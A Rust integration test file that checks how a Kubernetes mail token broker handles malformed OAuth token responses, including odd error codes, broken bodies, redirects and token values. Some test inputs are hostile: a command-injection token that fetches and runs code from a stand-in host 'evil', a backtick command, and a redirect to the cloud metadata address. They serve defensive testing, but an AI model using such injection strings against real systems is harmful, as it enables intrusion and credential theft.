//! Responses that no provider should send: conditions report them, the old token stays, and the broker retries in time.

use std::time::Duration;

use base64::{Engine as _, prelude::BASE64_URL_SAFE_NO_PAD};
use k8s_openapi::api::core::v1::Secret;
use mail_token_broker::{api::MailCredential, clock::Clock};
use mailtoken_testkit::{idp::TOKEN, *};
use serde_json::json;

/// The server, the MailProvider and the MailCredential of one case, all with the same name.
struct Case {
    name: &'static str,
    idp: Idp,
    reason: &'static str,
    said: &'static str,
}

impl Case {
    async fn begin(ns: &Namespace, name: &'static str, reason: &'static str, said: &'static str) -> Self {
        let idp = Idp::start();
        let bundle = format!("{name}-ca");
        ns.apply(ca_bundle(&bundle, &idp)).await;
        let provider = provider(&idp).set("metadata.name", name).set("spec.caBundleRef.configMap.name", bundle);
        ns.apply(provider).await;
        ns.apply(credential(name).set("spec.providerRef.name", name)).await;
        Self { name, idp, reason, said }
    }

    async fn get(&self, ns: &Namespace) -> MailCredential {
        ns.get(self.name).await
    }
}

/// Returns the cases: name, response, expected reason, and a part of the expected message.
fn answers() -> Vec<(&'static str, Answer, &'static str, &'static str)> {
    let token = || Answer::token(3600);
    let redirect = |status: u16, to: &str| Answer::status(status).header("location", to);
    vec![
        ("invalid-request", Answer::error("invalid_request"), "RequestRefused", "invalid_request"),
        ("invalid-client", Answer::error("invalid_client"), "InvalidClient", "invalid_client"),
        ("unauthorized-client", Answer::error("unauthorized_client"), "InvalidClient", "unauthorized_client"),
        ("invalid-grant", Answer::error("invalid_grant"), "InvalidGrant", "invalid_grant"),
        ("invalid-scope", Answer::error("invalid_scope"), "InvalidScope", "invalid_scope"),
        ("interaction", Answer::error("interaction_required"), "AuthorizationRequired", "interaction_required"),
        ("consent", Answer::error("consent_required"), "ConsentRequired", "consent_required"),
        ("unknown-error", Answer::error("never_heard_of"), "RequestRefused", "never_heard_of"),
        ("limit-400", Answer::error("rate_limit_exceeded"), "RequestRefused", "rate_limit_exceeded"),
        ("unavailable", Answer::error("temporarily_unavailable"), "ProviderUnavailable", "temporarily_unavailable"),
        ("capitals", Answer::error("INVALID_GRANT"), "InvalidGrant", "invalid_grant"),
        ("camel", Answer::error("invalidScope"), "InvalidScope", "invalid_scope"),
        ("denied", Answer::error("access_denied"), "ConsentRequired", "access_denied"),
        ("error-code", Answer::json(400, json!({"errorCode": "invalid_grant"})), "InvalidGrant", "invalid_grant"),
        (
            "error-object",
            Answer::json(400, json!({"error": {"code": "invalid_grant"}})),
            "InvalidGrant",
            "invalid_grant",
        ),
        (
            "error-odd",
            Answer::json(400, json!({"error": "invalid_grant", "error_description": ["x"], "correlation_id": 7})),
            "InvalidGrant",
            "invalid_grant",
        ),
        ("error-number", Answer::json(400, json!({"error": 400})), "RequestRefused", "not an OAuth code"),
        ("framework-400", Answer::json(400, json!({"error": "Bad Request"})), "RequestRefused", "not an OAuth code"),
        ("framework-401", Answer::json(401, json!({"error": "Unauthorized"})), "InvalidClient", "unauthorized"),
        ("framework-404", Answer::json(404, json!({"error": "Not Found"})), "MalformedResponse", "HTTP 404"),
        (
            "framework-503",
            Answer::json(503, json!({"error": "Service Unavailable"})),
            "ProviderUnavailable",
            "HTTP 503",
        ),
        ("unknown-500", Answer::json(500, json!({"error": "unknown_error"})), "ProviderUnavailable", "unknown_error"),
        ("consent-500", Answer::json(500, json!({"error": "consent_required"})), "ProviderUnavailable", "HTTP 500"),
        (
            "gzip-400",
            Answer::json(400, json!({"error": "invalid_grant"})).header("content-encoding", "gzip"),
            "InvalidGrant",
            "invalid_grant",
        ),
        ("brotli", Answer::text(200, "\u{1b}x").header("content-encoding", "br"), "MalformedResponse", "(br)"),
        ("error-in-500", Answer::json(500, json!({"error": "invalid_grant"})), "InvalidGrant", "invalid_grant"),
        ("error-in-200", Answer::json(200, json!({"error": "invalid_grant"})), "InvalidGrant", "invalid_grant"),
        ("page-500", Answer::status(500), "ProviderUnavailable", "HTTP 500"),
        ("page-503", Answer::status(503), "ProviderUnavailable", "HTTP 503"),
        ("page-429", Answer::status(429), "Throttled", "HTTP 429"),
        ("grant-429", Answer::json(429, json!({"error": "invalid_grant"})), "Throttled", "status.nextAttemptTime"),
        ("page-200", Answer::status(200), "MalformedResponse", "not a token response"),
        ("page-404", Answer::status(404), "MalformedResponse", "HTTP 404"),
        ("empty", Answer::text(200, ""), "MalformedResponse", "empty"),
        (
            "truncated",
            Answer::text(200, r#"{"access_token":"canary-trunc","#),
            "MalformedResponse",
            "not a token response",
        ),
        (
            "twice",
            Answer::text(200, r#"{"access_token":"canary-a","access_token":"canary-b","token_type":"Bearer"}"#),
            "MalformedResponse",
            "not a token response",
        ),
        ("huge", Answer::text(200, &" ".repeat(300 * 1024)), "MalformedResponse", "262144"),
        ("redirect", redirect(302, "/elsewhere"), "MalformedResponse", "redirect"),
        ("redirect-301", redirect(301, "/elsewhere"), "MalformedResponse", "redirect"),
        ("redirect-307", redirect(307, "/elsewhere"), "MalformedResponse", "redirect"),
        ("redirect-host", redirect(308, "https://id.example.org/elsewhere"), "MalformedResponse", "redirect"),
        ("redirect-http", redirect(302, "http://169.254.169.254/"), "MalformedResponse", "never followed"),
        ("mac", token().field("token_type", "mac"), "MalformedResponse", "Bearer"),
        ("no-token", Answer::json(200, json!({"token_type": "Bearer"})), "MalformedResponse", "access_token"),
        ("line-break", token().field("access_token", "a\r\nb"), "MalformedResponse", "characters"),
        ("nul", token().field("access_token", "a\0b"), "MalformedResponse", "characters"),
        ("script", token().field("access_token", "x;curl${IFS}evil|sh;"), "MalformedResponse", "characters"),
        ("backtick", token().field("access_token", "a`id`"), "MalformedResponse", "characters"),
        ("quote", token().field("access_token", "a\"b"), "MalformedResponse", "characters"),
        ("dollar", token().field("access_token", "a$b"), "MalformedResponse", "characters"),
        ("long", token().field("access_token", "x".repeat(32 * 1024 + 1)), "MalformedResponse", "32768"),
        ("close", Answer::close(), "ProviderUnavailable", "connection"),
        ("hang", Answer::hang(), "ProviderUnavailable", "did not answer within 1s"),
        ("late", token().after(Duration::from_secs(3)), "ProviderUnavailable", "did not answer within 1s"),
    ]
}

#[tokio::test]
async fn every_bad_response_is_reported_and_the_old_token_stays() {
    let ns = Cluster::shared().namespace().await;
    let broker = Broker::settings(&ns).flag("--request-timeout=1s").start().await;
    ns.apply(source("idp-client", "client-secret", "a client secret")).await;
    let mut cases = vec![];
    for (name, _, reason, said) in answers() {
        cases.push(Case::begin(&ns, name, reason, said).await);
    }
    let mut before = vec![];
    for case in &cases {
        ns.condition::<MailCredential>(case.name, "Ready", "TokenValid").await;
        let secret: Secret = ns.get(case.name).await;
        before.push(secret.metadata.resource_version);
    }

    for (case, (_, answer, ..)) in cases.iter().zip(answers()) {
        case.idp.forget();
        case.idp.answer(answer);
        ns.annotate::<MailCredential>(case.name, "mailtoken.dev/reissue", "1").await;
    }

    for (case, version) in cases.iter().zip(before) {
        let renewed = ns.condition::<MailCredential>(case.name, "Renewed", case.reason).await;
        assert!(renewed.message.contains(case.said), "{}: {}", case.name, renewed.message);
        let found = case.get(&ns).await;
        let shown = namespace::show(&found);
        let ready = namespace::find(&found, "Ready").unwrap();
        assert_eq!((ready.status.as_str(), ready.reason.as_str()), ("True", "TokenValid"), "{shown}");
        let transient = ["ProviderUnavailable", "Throttled", "MalformedResponse"].contains(&case.reason);
        // The old token is still valid, so only `Renewed` reports the failure.
        assert!(namespace::find(&found, "Stalled").is_none(), "{shown}");
        let status = found.status.unwrap();
        // On a slow machine the broker may already have made the second attempt.
        let attempts = status.failed_attempts.unwrap();
        let wait = status.next_attempt_time.unwrap().0.duration_since(status.last_failure_time.unwrap().0);
        // An unknown error may be transient.
        let unknown = ["unknown-error", "limit-400", "error-number", "framework-400"].contains(&case.name);
        let first = if transient { 5 } else { 15 * 60 };
        assert_eq!(wait.as_secs(), if unknown { 60 } else { first << (attempts - 1) }, "{shown}");
        let secret: Secret = ns.get(case.name).await;
        assert_eq!(secret.metadata.resource_version, version, "{}: the Secret was written", case.name);
        // The broker sends the Event after the status.
        until(&format!("an Event reports {}", case.name), async || {
            let events = ns.events(case.name).await;
            let reported = events.iter().any(|event| event.reason.as_deref() == Some(case.reason));
            reported.then_some(()).ok_or(format!("{events:#?}"))
        })
        .await;
        assert_eq!(case.idp.requests_at("/elsewhere").len(), 0);
    }
    // All requests have failed by now. The broker may have repeated those that it retries after 5 s.
    holds(Duration::from_secs(2), "no request is repeated in a loop", async || {
        let hot = cases.iter().find(|case| case.idp.requests_at(TOKEN).len() > 3);
        hot.map_or(Ok(()), |case| Err(format!("{}: {}", case.name, case.idp.requests_at(TOKEN).len())))
    })
    .await;

    for case in &cases {
        case.idp.answer(Answer::token(3600));
        ns.annotate::<MailCredential>(case.name, "mailtoken.dev/reissue", "2").await;
    }
    for case in &cases {
        let found = ns
            .until::<MailCredential>(case.name, "it has recovered", |found| {
                found.status.as_ref().and_then(|status| status.last_handled_reissue.as_deref()) == Some("2")
            })
            .await;
        assert_eq!(namespace::find(&found, "Renewed").unwrap().reason, "RenewalSucceeded");
        assert_eq!(found.status.unwrap().failed_attempts, Some(0));
    }
    for canary in ["canary-trunc", "canary-a", "canary-b"] {
        assert!(!broker.log().contains(canary));
    }
    let fault = |case: &Case| match case.reason {
        "Throttled" => "F12",
        "ProviderUnavailable" => "F13",
        "MalformedResponse" if case.name.starts_with("redirect") => "F16",
        "MalformedResponse" => "F15",
        _ => "F17",
    };
    for number in ["F12", "F13", "F15", "F16", "F17"] {
        fault_log::tried(number, cases.iter().filter(|case| fault(case) == number).count(), "nothing");
    }
}

/// A valid token in an odd response: its lifetime and scopes, and the reasons of the Warnings that name the assumed
/// values.
type Odd = (&'static str, Answer, i64, &'static [&'static str], &'static [&'static str]);

fn odd_answers() -> Vec<Odd> {
    let token = |expires_in: serde_json::Value| Answer::token(0).field("expires_in", expires_in);
    let jwt = |ends_in: i64| {
        let now = Clock::system().now().as_second();
        let claims = BASE64_URL_SAFE_NO_PAD.encode(json!({"exp": now + ends_in}).to_string());
        format!("e30.{claims}.-canary-{ends_in}")
    };
    let (lifetime, kind): (&[&str], &[&str]) = (&["LifetimeUnknown"], &["TokenTypeUnknown"]);
    vec![
        ("text", token(json!("7200")), 7200, &[], &[]),
        ("float", token(json!(7200.0)), 7200, &[], &[]),
        ("none", Answer::token(0).without("expires_in"), 3600, &[], lifetime),
        ("zero", token(json!(0)), 3600, &[], lifetime),
        ("negative", token(json!(-5)), 3600, &[], lifetime),
        ("word", token(json!("soon")), 3600, &[], lifetime),
        ("never", token(json!(1_000_000_000_000_u64)), 3600, &[], lifetime),
        ("jwt", Answer::token(0).without("expires_in").field("access_token", jwt(2400)), 2400, &[], &[]),
        ("jwt-sooner", Answer::token(7200).field("access_token", jwt(2400)), 2400, &[], &[]),
        ("jwt-later", Answer::token(2400).field("access_token", jwt(7200)), 2400, &[], &[]),
        ("no-type", Answer::token(7200).without("token_type"), 7200, &[], kind),
        (
            "scope-list",
            Answer::token(7200).field("scope", json!(["mail.send", "mail.read"])),
            7200,
            &["mail.send", "mail.read"],
            &[],
        ),
        (
            "bom",
            Answer::text(
                200,
                "\u{feff}{\"access_token\":\"a-canary-bom\",\"token_type\":\"Bearer\",\"expires_in\":7200}",
            ),
            7200,
            &[],
            &[],
        ),
        (
            "infinite",
            Answer::text(
                200,
                "{\"access_token\":\"a-canary-infinite\",\"token_type\":\"Bearer\",\"expires_in\":1e999}",
            ),
            3600,
            &[],
            lifetime,
        ),
        ("gzip", Answer::token(7200).header("content-encoding", "gzip"), 7200, &[], &[]),
        ("deflate", Answer::token(7200).header("content-encoding", "deflate"), 7200, &[], &[]),
    ]
}

#[tokio::test]
async fn a_good_token_is_published_in_any_wrapping_and_assumptions_are_reported() {
    let ns = Cluster::shared().namespace().await;
    let _broker = Broker::start(&ns).await;
    ns.apply(source("idp-client", "client-secret", "a client secret")).await;
    let mut servers = vec![];
    for (name, answer, ..) in odd_answers() {
        let idp = Idp::start();
        idp.answer(answer);
        ns.apply(ca_bundle(&format!("{name}-ca"), &idp)).await;
        let provider = provider(&idp).set("metadata.name", name);
        ns.apply(provider.set("spec.caBundleRef.configMap.name", format!("{name}-ca"))).await;
        ns.apply(credential(name).set("spec.providerRef.name", name)).await;
        servers.push(idp);
    }
    for (name, _, lifetime, scopes, warnings) in odd_answers() {
        ns.condition::<MailCredential>(name, "Ready", "TokenValid").await;
        let found: MailCredential = ns.get(name).await;
        let token = found.status.unwrap().token.unwrap();
        let lived = token.expires_at.0.duration_since(token.issued_at.0).as_secs();
        // The test created the JWTs a moment before the broker requested them.
        let slack = if name.starts_with("jwt") && lifetime == 2400 && name != "jwt-later" { 60 } else { 0 };
        assert!((lifetime - slack..=lifetime).contains(&lived), "{name}: {lived}");
        if !scopes.is_empty() {
            assert_eq!(token.scopes, scopes, "{name}");
        }
        let secret = ns.secret(name).await;
        assert_eq!(secret["expires_at_unix"].parse::<i64>().unwrap(), token.expires_at.0.as_second());
        assert_eq!(secret["token_type"], "Bearer", "{name}");
        until("the Events are those", async || {
            let events = ns.events(name).await;
            let reported: Vec<_> = events
                .iter()
                .filter(|event| event.type_.as_deref() == Some("Warning"))
                .filter_map(|event| event.reason.as_deref())
                .collect();
            (reported == warnings).then_some(()).ok_or(format!("{name}: {events:#?}"))
        })
        .await;
    }
    let asked = &servers[0].token_requests()[0];
    assert_eq!(asked.headers["accept-encoding"], "identity");
    fault_log::tried("F15", servers.len(), "nothing");
}

#[tokio::test]
async fn even_a_short_token_is_not_renewed_within_five_seconds() {
    let Fixture { ns, idp, broker: _broker } = Fixture::new().await;
    let hint = Idp::start();
    idp.answer(Answer::token(1));
    hint.answer(Answer::token(3600).field("refresh_in", 1));
    ns.apply(ca_bundle("hint-ca", &hint)).await;
    let other = provider(&hint).set("metadata.name", "hint").set("spec.caBundleRef.configMap.name", "hint-ca");
    ns.apply(other).await;
    ns.apply(credential("billing")).await;
    ns.apply(credential("hinted").set("spec.providerRef.name", "hint")).await;
    for server in [&idp, &hint] {
        let requests = server.token_requests_reach(4).await;
        for pair in requests.windows(2) {
            let apart = pair[1].at.duration_since(pair[0].at);
            assert!(apart >= Duration::from_secs(5), "{apart:?}");
        }
    }
    fault_log::tried("F15", 2, "nothing");
}
